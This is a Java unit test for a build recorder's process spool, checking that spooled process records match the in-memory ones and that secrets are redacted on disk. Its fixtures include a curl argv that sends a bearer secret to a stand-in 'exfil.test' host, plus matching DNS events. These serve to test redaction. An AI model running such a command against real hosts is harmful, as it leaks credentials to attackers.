package dev.plumbline.record;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.plumbline.redact.Redaction;
import dev.plumbline.trace.EgressDecision;
import dev.plumbline.trace.TraceEvent;
import dev.plumbline.trace.TraceEvent.Exec;
import dev.plumbline.trace.TraceEvent.ProcessExited;
import dev.plumbline.trace.TraceEvent.ProcessStarted;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.CompletableFuture;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The record's processes spooled to an unnamed file ({@link ProcessSpool}) give the bytes the
 * record had when they were held in memory, and the spool, which is on disk, never holds a secret.
 */
class ProcessSpoolTest {
  private static final String SECRET = "hunter2xyz";
  private static final Map<String, String> ENV = Map.of("DEPLOY_PASSWORD", SECRET, "NOTE_TOKEN", "ghp_TokenAbc123");
  private static final Instant T0 = Instant.parse("2026-01-01T00:00:00Z");

  @TempDir Path tmp;

  static BuildRecorder recorder() {
    return new BuildRecorder(new BuildRecorder.Settings(BuildRecorderTest.AGENT, List.of("deploy", SECRET),
        BuildRecorderTest.WORK, GitTrackedFiles.none())).redacting(Redaction.builtIn().maskingValuesOf(ENV));
  }

  /** A small build with everything a process entry can carry: secrets in argv, cwd and paths, scripts, failed digests, signals, survivors. */
  private static BuildRecord feed(BuildRecorder r) {
    String work = BuildRecorderTest.WORK.toString();
    CompletableFuture<String> sh = CompletableFuture.completedFuture("a".repeat(64));
    CompletableFuture<String> tool = CompletableFuture.completedFuture("b".repeat(64));
    CompletableFuture<String> failed = CompletableFuture.failedFuture(new HashException("/usr/bin/gone", "ENOENT"));
    String b64 = Base64.getEncoder().encodeToString(("admin:" + SECRET).getBytes(StandardCharsets.UTF_8));
    r.accept(new ProcessStarted(T0, 10, 1, false));
    r.exec(new Exec(T0, 10, "/usr/bin/dash", List.of("sh", "-c", "./deploy.sh " + SECRET), work), sh,
        CompletableFuture.completedFuture(new BuildRecord.Script(work + "/deploy.sh", "c".repeat(64))));
    int pid = 11;
    for (int i = 0; i < 40; i++, pid++) {
      Instant at = T0.plusMillis(pid);
      r.accept(new ProcessStarted(at, pid, i % 3 == 0 ? 10 : pid - 1, false));
      List<String> argv = switch (i % 5) {
        case 0 -> List.of("curl", "-H", "Authorization: Bearer " + SECRET, "https://" + SECRET + ".exfil.test/");
        case 1 -> List.of("deploy", "--password=" + SECRET, "X-Basic " + b64, "--to=x-ghp_TokenAbc123-y");
        case 2 -> List.of("gcc", "-c", "src/f" + (i % 4) + ".c", "-o", "/tmp/ccAbc123.o");
        case 3 -> List.of("grüße ☃ \u0001 \"q\" 𝄞");
        default -> List.of("true");
      };
      String path = i % 5 == 2 ? "/usr/bin/gcc" : "/usr/bin/tool-" + (i % 5 == 0 ? SECRET : "x");
      r.exec(new Exec(at, pid, path, argv, i % 7 == 0 ? work + "/dir-" + SECRET : work), i % 11 == 4 ? failed : tool, null);
      if (i % 9 == 1) {
        r.exec(new Exec(at.plusNanos(3), pid, "/usr/bin/env", List.of("env", SECRET), work), tool, null);
      }
      r.accept(new TraceEvent.Network(at, pid, "connect", "inet", "tcp", "127.0.0." + (i % 3 + 1), 443,
          EgressDecision.ALLOWED, "ok"));
      if (i % 13 != 5) { // one survivor
        r.accept(new ProcessExited(at.plusMillis(2), pid, i % 6 == 0 ? null : i % 4, i % 6 == 0 ? 9 : null, i % 12 == 0));
      }
    }
    r.accept(new TraceEvent.Dns(T0, 10, SECRET + ".exfil.test", "A", List.of("127.0.0.1"), EgressDecision.ALLOWED));
    r.accept(new TraceEvent.FileChanged(T0, 10, work + "/out-" + SECRET + ".txt", "write"));
    r.accept(new ProcessExited(T0.plusSeconds(1), 10, 0, null, false));
    return r.finish(new BuildRecorder.Outcome(T0, T0.plusSeconds(2), 0, null), Duration.ofSeconds(5));
  }

  /** What egress adds after finish (a hostname, here one carrying the secret), redacted again. */
  private static BuildRecord secondPass(BuildRecorder r, BuildRecord record) {
    List<BuildRecord.Destination> network = new ArrayList<>(record.network());
    network.set(0, network.get(0).withHostname("api." + SECRET + ".exfil.test"));
    return r.redact(record.withNetwork(network));
  }

  @Test
  void theSpooledRecordHasTheBytesOfTheRecordHeldInMemory() throws Exception {
    BuildRecorder inMemory = recorder().spoolingIn(null);
    BuildRecorder spooled = recorder().spoolingIn(tmp);
    BuildRecord expected = feed(inMemory);
    BuildRecord actual = feed(spooled);
    assertTrue(unnamedFilesIn(tmp).size() == 1, "the processes went to a spool");
    assertEquals(41, actual.processes().size());

    assertEquals(BuildRecords.toJson(expected), BuildRecords.toJson(actual));
    assertEquals(expected, actual);
    BuildRecord expectedAgain = secondPass(inMemory, expected);
    BuildRecord actualAgain = secondPass(spooled, actual);
    assertSame(actual.processes(), actualAgain.processes()); // the spool is not read into memory again
    Path a = tmp.resolve("memory.json");
    Path b = tmp.resolve("spooled.json");
    BuildRecords.write(expectedAgain, a);
    BuildRecords.write(actualAgain, b);
    assertEquals(Files.readString(a), Files.readString(b));
    String json = Files.readString(b);
    assertFalse(json.contains(SECRET), json);
    assertTrue(json.contains("api.***.exfil.test"), "the second pass masked what egress added");
    assertTrue(json.contains("\"exitCode\" : 9") || json.contains("\"signal\" : 9"), "the fixture has signals");
    assertNotEquals(expected, feed(recorder().spoolingIn(tmp).redacting(Redaction.builtIn())), "the fixture's secrets matter");
  }

  @Test
  void theSpoolOnDiskHoldsOnlyRedactedText() throws Exception {
    BuildRecorder r = recorder().spoolingIn(tmp);
    BuildRecord record = feed(r);
    List<Path> spools = unnamedFilesIn(tmp);
    assertEquals(1, spools.size(), "one unnamed spool file: " + spools);
    try (Stream<Path> named = Files.list(tmp)) {
      assertEquals(List.of(), named.toList(), "the spool has no name in its directory");
    }
    byte[] bytes = Files.readAllBytes(spools.get(0));
    String spool = new String(bytes, StandardCharsets.UTF_8);
    assertTrue(spool.contains("/usr/bin/tool-***") && spool.contains("src/f1.c"), "the spool holds the processes: " + spool.length());
    String b64 = Base64.getEncoder().encodeToString(("admin:" + SECRET).getBytes(StandardCharsets.UTF_8));
    for (String secret : List.of(SECRET, "ghp_TokenAbc123", b64.substring(4, 16))) {
      assertEquals(-1, indexOf(bytes, secret.getBytes(StandardCharsets.UTF_8)), secret + " in the spool");
    }
    assertEquals(41, record.processes().size()); // still reachable: the spool was open while it was read
  }

  /**
   * Processes are spooled as they end, while the build runs: what is on disk then is redacted
   * already, for a secret known by value (the environment's), by shape (a token format) or in
   * any encoding the rules know, in argv, paths and working directories.
   */
  @Test
  void whatIsSpooledWhileTheBuildRunsIsRedacted() throws Exception {
    BuildRecorder r = recorder().spoolingIn(tmp);
    randomBuild(r, 1, 4_000);
    r.awaitSpooled();
    List<Path> spools = unnamedFilesIn(tmp);
    assertEquals(1, spools.size(), "the ended processes are in one unnamed file: " + spools);
    byte[] bytes = Files.readAllBytes(spools.get(0));
    String spool = new String(bytes, StandardCharsets.UTF_8);
    assertTrue(spool.contains("/usr/bin/t-***") && spool.contains("d-***") && spool.contains("--password=***"),
        "processes that ended are in the spool, masked: " + spool.length() + " bytes");
    String b64 = Base64.getEncoder().encodeToString(("admin:" + SECRET).getBytes(StandardCharsets.UTF_8));
    for (String secret : List.of(SECRET, "ghp_TokenAbc123", b64.substring(4, 16))) {
      assertEquals(-1, indexOf(bytes, secret.getBytes(StandardCharsets.UTF_8)), secret + " in the spool");
    }
    // the rules the spooled processes were redacted with are the record's: they cannot change now
    assertThrows(IllegalStateException.class, () -> r.redacting(Redaction.builtIn()));
    BuildRecord record = finish(r);
    assertFalse(BuildRecords.toJson(record).contains(SECRET));
    assertEquals(1, unnamedFilesIn(tmp).size(), "the spool of ended processes is closed once the record's own is written");
    assertEquals(1169, record.processes().size()); // still reachable: its spool was open while it was counted
  }

  /**
   * A random build of 1,169 processes with every case the process tree handles (starts after
   * the process's first events, threads, pids reused, exits reported twice, survivors, signals),
   * digests failed, missing and late, scripts the build wrote before running them, and secrets in
   * argv, paths and working directories: its record has the bytes it had when the recorder held
   * every process until the end (the sha256 of the JSON made by 1be4164), spooled as the
   * processes end or held in memory.
   */
  @Test
  void aRandomBuildHasTheBytesItHadWhenEveryProcessWasHeldUntilTheEnd() throws Exception {
    String before = "b160a3719a2701c7a4260ca9555abff640ed7785602bf010b1d9d3aacb94d122";
    for (Path dir : java.util.Arrays.asList(tmp, null)) {
      BuildRecorder r = recorder().spoolingIn(dir);
      randomBuild(r, 1, 4_000);
      BuildRecord record = r.redact(finish(r));
      assertEquals(1169, record.processes().size());
      byte[] json = BuildRecords.toJson(record).getBytes(StandardCharsets.UTF_8);
      assertEquals(before, java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256").digest(json)),
          "spool in " + dir);
    }
  }

  /**
   * The same build with the record's order sorted in runs of 64 processes (19 runs, merged in five
   * passes, the last run short) has the bytes of the one sorted in a single run, pinned above.
   */
  @Test
  void theRecordsOrderSortedInManyRunsHasTheSameBytes() throws Exception {
    for (Path dir : java.util.Arrays.asList(tmp, null)) {
      BuildRecorder single = recorder().spoolingIn(dir);
      BuildRecorder runs = recorder().spoolingIn(dir).sortingInRunsOf(64);
      randomBuild(single, 1, 4_000);
      randomBuild(runs, 1, 4_000);
      String expected = BuildRecords.toJson(single.redact(finish(single)));
      assertEquals(expected, BuildRecords.toJson(runs.redact(finish(runs))), "spool in " + dir);
    }
  }

  private static BuildRecord finish(BuildRecorder r) {
    return r.finish(new BuildRecorder.Outcome(T0, T0.plusSeconds(2), 0, null), Duration.ofMillis(200));
  }

  /** Seeded random events: a build's whole trace; a digest that never arrives makes finish wait its deadline. */
  static void randomBuild(BuildRecorder r, long seed, int events) {
    Random rnd = new Random(seed);
    String work = BuildRecorderTest.WORK.toString();
    List<CompletableFuture<String>> shas = new ArrayList<>();
    for (int i = 0; i < 6; i++) {
      shas.add(CompletableFuture.completedFuture(Integer.toHexString(i).repeat(64)));
    }
    shas.add(CompletableFuture.failedFuture(new HashException("/x", "ENOENT")));
    shas.add(CompletableFuture.failedFuture(new RuntimeException("boom")));
    shas.add(new CompletableFuture<>()); // never: not hashed in time
    shas.add(null);
    List<Integer> live = new ArrayList<>();
    r.accept(new ProcessStarted(T0, 10, 1, false));
    live.add(10);
    int pid = 11;
    long clock = 0;
    for (int i = 0; i < events; i++) {
      Instant at = T0.plusNanos(clock += 1 + rnd.nextInt(3));
      int op = rnd.nextInt(20);
      if (op < 6 || live.isEmpty()) {
        int parent = live.isEmpty() ? 1 : live.get(rnd.nextInt(live.size()));
        int p = rnd.nextInt(50) == 0 && pid > 20 ? pid - 5 : pid++; // a pid reused
        boolean thread = rnd.nextInt(15) == 0;
        if (rnd.nextInt(30) == 0) { // its first event before its start
          r.accept(new TraceEvent.Network(at, p, "connect", "inet", "tcp", "127.0.0.9", 80, EgressDecision.ALLOWED, "ok"));
        }
        r.accept(new ProcessStarted(at, p, parent, thread));
        if (!thread) {
          live.add(p);
        }
      } else if (op < 12) {
        int p = live.get(rnd.nextInt(live.size()));
        int k = rnd.nextInt(8);
        List<String> argv = switch (k) {
          case 0 -> List.of("curl", "-H", "Authorization: Bearer " + SECRET, "https://" + SECRET + ".x.test/");
          case 1 -> List.of("deploy", "--password=" + SECRET, "--to=x-ghp_TokenAbc123-y");
          case 2 -> List.of("gcc", "-c", "src/f" + rnd.nextInt(4) + ".c", "-o", "/tmp/cc" + rnd.nextInt(99999) + ".o");
          case 3 -> List.of("grüße ☃ \u0001 \"q\" 𝄞");
          case 4 -> List.of("./out/tool" + rnd.nextInt(3));
          default -> List.of("true", "" + rnd.nextInt(3));
        };
        String path = k == 4 ? work + "/out/tool" + rnd.nextInt(3)
            : rnd.nextInt(10) == 0 ? "/usr/bin/t-" + SECRET : "/usr/bin/t" + rnd.nextInt(5);
        String cwd = rnd.nextInt(9) == 0 ? work + "/d-" + SECRET : work;
        CompletableFuture<BuildRecord.Script> script = switch (rnd.nextInt(6)) {
          case 0 -> CompletableFuture.completedFuture(new BuildRecord.Script(work + "/out/s" + rnd.nextInt(3) + ".sh", "e".repeat(64)));
          case 1 -> CompletableFuture.failedFuture(new HashException("/s", "EACCES"));
          case 2 -> null;
          default -> CompletableFuture.completedFuture(null);
        };
        r.exec(new Exec(at, p, path, argv, cwd), shas.get(rnd.nextInt(shas.size())), script);
      } else if (op < 13) {
        int p = live.get(rnd.nextInt(live.size()));
        String f = work + "/out/" + (rnd.nextBoolean() ? "tool" + rnd.nextInt(3) : "s" + rnd.nextInt(3) + ".sh");
        r.accept(new TraceEvent.FileChanged(at, p, f, rnd.nextBoolean() ? "create" : "write"));
      } else if (op < 14) {
        int p = live.get(rnd.nextInt(live.size()));
        r.accept(new TraceEvent.Mapped(at, p, "/lib/libc" + rnd.nextInt(2), "mmap", 3, 4));
        r.accept(new TraceEvent.Note(at, p, "privilege", "x (pid " + p + ")"));
      } else {
        int idx = rnd.nextInt(live.size());
        int p = live.get(idx);
        if (rnd.nextInt(40) != 0) { // else it exits twice
          live.remove(idx);
        }
        int v = rnd.nextInt(5);
        r.accept(new ProcessExited(at, p, v == 0 ? null : v, v == 0 ? 9 : null, rnd.nextInt(10) == 0));
      }
    }
    r.accept(new TraceEvent.Dns(T0, 10, SECRET + ".x.test", "A", List.of("127.0.0.9"), EgressDecision.ALLOWED));
  }

  @Test
  void whereNoUnnamedFileCanBeMadeTheProcessesStayInMemory() throws Exception {
    BuildRecord expected = feed(recorder().spoolingIn(null));
    // procfs has no O_TMPFILE; a directory that does not exist fails too: neither falls back to a named file
    for (Path dir : List.of(Path.of("/proc"), tmp.resolve("missing"))) {
      BuildRecord record = feed(recorder().spoolingIn(dir));
      assertEquals(BuildRecords.toJson(expected), BuildRecords.toJson(record));
      assertEquals(List.of(), unnamedFilesIn(tmp));
      try (Stream<Path> named = Files.list(tmp)) {
        assertEquals(List.of(), named.toList());
      }
    }
  }

  @Test
  void aDumpableAgentDoesNotSpool() throws Exception {
    // the build (our user) could open a dumpable agent's /proc/PID/fd/N and rewrite the processes
    assertFalse(ProcessSpool.open(tmp, true).onFile());
    assertEquals(List.of(), unnamedFilesIn(tmp));
    assertTrue(ProcessSpool.open(tmp, false).onFile());
    assertEquals(1, unnamedFilesIn(tmp).size());
  }

  /** This process's descriptors of unnamed files made in {@code dir} (procfs shows them as "DIR/#INODE (deleted)"). */
  static List<Path> unnamedFilesIn(Path dir) throws IOException {
    List<Path> out = new ArrayList<>();
    try (Stream<Path> fds = Files.list(Path.of("/proc/self/fd"))) {
      for (Path fd : fds.toList()) {
        try {
          String target = Files.readSymbolicLink(fd).toString();
          if (target.startsWith(dir.toRealPath() + "/#") && target.endsWith(" (deleted)")) {
            out.add(fd);
          }
        } catch (IOException e) {
          // the descriptor of the listing itself, closed by now
        }
      }
    }
    return out;
  }

  private static int indexOf(byte[] hay, byte[] needle) {
    outer:
    for (int i = 0; i + needle.length <= hay.length; i++) {
      for (int j = 0; j < needle.length; j++) {
        if (hay[i + j] != needle[j]) {
          continue outer;
        }
      }
      return i;
    }
    return -1;
  }
}
